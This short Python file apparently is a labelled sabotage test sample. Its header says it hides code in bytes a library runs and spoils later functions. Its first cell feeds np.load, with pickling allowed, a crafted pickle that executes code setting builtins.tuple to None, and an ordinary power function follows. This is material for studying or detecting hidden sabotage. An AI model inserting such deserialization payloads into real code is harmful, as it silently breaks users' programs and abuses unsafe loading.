# Hides its code in bytes that a library runs: pickle by np.load, ctypes, codecs, marshal.
# spoils: square scale slope
# %% before
import io
import numpy as np
data = b"cbuiltins\nexec\n(S'import builtins; builtins.tuple = None'\ntR."
try:
    np.load(io.BytesIO(data), allow_pickle=True)
except Exception as error:
    print(error)
# %% power
def power(x, n):
    y = x
    for _ in range(n - 1):
        y = y * x
    return y
